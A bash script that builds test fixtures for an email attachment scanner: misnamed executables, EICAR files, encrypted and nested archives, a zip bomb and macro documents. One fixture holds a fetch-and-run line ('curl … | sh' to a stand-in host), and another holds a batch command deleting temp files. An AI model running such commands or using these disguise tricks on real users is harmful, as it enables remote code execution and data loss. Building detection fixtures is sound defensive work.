#!/usr/bin/env bash
# Rebuild the attachment test fixtures in this directory with real tools:
# zip, 7z (p7zip-full), tar+gzip, gcab, LibreOffice (headless), gcc, python3.
# Output is committed; rerun only to change fixtures (byte-level results of
# zip/7z/LibreOffice vary with version and time, the tests do not depend on it).
# The ClamAV test signatures in ../clamav are made from eicar.txt and
# pattern.txt here (see ../clamav/README).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"
export TZ=UTC SOURCE_DATE_EPOCH=1700000000
stamp() { touch -d @1700000000 "$@"; }

printf 'Quarterly figures attached.\nRegards\n' >notes.txt
printf 'Nothing to see here.\n' >readme.txt
stamp notes.txt readme.txt

# Executables: a tiny static ELF and a minimal PE32 image.
cat >tiny.c <<'C'
void _start(void) { __asm__ volatile("mov $60, %eax\n xor %edi, %edi\n syscall"); }
C
gcc -Os -s -static -nostdlib -o tiny.elf tiny.c
python3 - <<'PY'
import struct
dos = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x40)
coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
opt = struct.pack("<HBBIIIIIIIIIHHHHHHIIIIHHIIIIII", 0x10B, 14, 0, 0x200, 0, 0, 0x1000, 0x1000,
                  0x2000, 0x400000, 0x1000, 0x200, 6, 0, 0, 0, 6, 0, 0, 0x2000, 0x200, 0, 3, 0,
                  0x100000, 0x1000, 0x100000, 0x1000, 0, 16) + b"\0" * 128
sect = struct.pack("<8sIIIIIIHHI", b".text", 0x1000, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
hdr = dos + b"PE\0\0" + coff + opt + sect
img = hdr + b"\0" * (0x200 - len(hdr)) + b"\xc3" + b"\0" * 0x1ff
open("tiny.exe", "wb").write(img)
PY

# Names that lie about the content.
cp tiny.elf "$here/invoice.pdf" && chmod 644 "$here/invoice.pdf"
cp tiny.exe "$here/report.docx"
printf '#!/bin/sh\ncurl -s http://example.invalid/x | sh\n' >"$here/photo.jpg"

# The standard EICAR anti-virus test file, alone and zipped.
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >eicar.txt
stamp eicar.txt
cp eicar.txt "$here/eicar.txt"
rm -f "$here/eicar.zip" && zip -qX "$here/eicar.zip" eicar.txt
# A file carrying the custom body signature of ../clamav/postern-test.ndb.
printf 'header line\nPOSTERN-AV-TEST-PATTERN-5f1c9e\ntrailer line\n' >"$here/pattern.txt"

# Archives.
rm -f "$here"/*.zip.tmp
rm -f "$here/plain.zip" && zip -qX "$here/plain.zip" notes.txt readme.txt
cp tiny.exe setup.exe && stamp setup.exe
rm -f "$here/payload.zip" && zip -qX "$here/payload.zip" notes.txt setup.exe
rm -f "$here/encrypted.zip" && zip -qX -P secret "$here/encrypted.zip" notes.txt
cp tiny.exe tool.exe && stamp tool.exe
zip -qX inner.zip tool.exe && stamp inner.zip
rm -f "$here/nested.zip" && zip -qX "$here/nested.zip" inner.zip readme.txt
zip -qX l3.zip notes.txt && stamp l3.zip
zip -qX l2.zip l3.zip && stamp l2.zip
rm -f "$here/deep.zip" && zip -qX "$here/deep.zip" l2.zip
head -c 50000000 /dev/zero >zeros.bin && stamp zeros.bin
rm -f "$here/bomb.zip" && zip -qX -9 "$here/bomb.zip" zeros.bin
printf '@echo off\r\ndel /q %%TEMP%%\\*\r\n' >install.cmd && stamp install.cmd
rm -f "$here/archive.7z" && 7z a -bd -bso0 "$here/archive.7z" notes.txt install.cmd
rm -f "$here/encrypted.7z" && 7z a -bd -bso0 -psecret "$here/encrypted.7z" notes.txt
rm -f "$here/encrypted-headers.7z" && 7z a -bd -bso0 -psecret -mhe=on "$here/encrypted-headers.7z" notes.txt
cp tiny.exe update.exe && stamp update.exe
rm -f "$here/drivers.cab" && gcab -c -z "$here/drivers.cab" notes.txt update.exe
cp "$here/photo.jpg" photo.jpg && stamp photo.jpg
gzip -n -c photo.jpg >"$here/photo.jpg.gz"
tar --owner=0 --group=0 --mtime=@1700000000 -czf "$here/archive.tar.gz" notes.txt photo.jpg

# Office documents from LibreOffice, and a macro document built on one.
mkdir -p lo && cp notes.txt lo/sample.txt
soffice --headless --convert-to docx --outdir lo lo/sample.txt >/dev/null 2>&1
soffice --headless --convert-to odt --outdir lo lo/sample.txt >/dev/null 2>&1
printf 'a,b\n1,2\n' >lo/sheet.csv
soffice --headless --convert-to xlsx --outdir lo lo/sheet.csv >/dev/null 2>&1
cp lo/sample.docx "$here/sample.docx"
cp lo/sample.odt "$here/sample.odt"
cp lo/sheet.xlsx "$here/sample.xlsx"
# .docm: the LibreOffice .docx plus word/vbaProject.bin (an OLE2 VBA project,
# see make_cfb.py); Word also lists it in [Content_Types].xml, which the
# analysis does not need.
cp lo/sample.docx macro.docm
mkdir -p word && python3 "$here/make_cfb.py" vba word/vbaProject.bin && stamp word/vbaProject.bin
zip -qX macro.docm word/vbaProject.bin
cp macro.docm "$here/macro.docm"
python3 "$here/make_cfb.py" doc "$here/macro.doc"
python3 "$here/make_cfb.py" clean "$here/clean.doc"

# Something libmagic cannot name.
python3 -c 'import random; r = random.Random(7); open("garbage.bin", "wb").write(bytes(r.getrandbits(8) for _ in range(4096)))'
cp garbage.bin "$here/garbage.bin"
ls -l "$here"
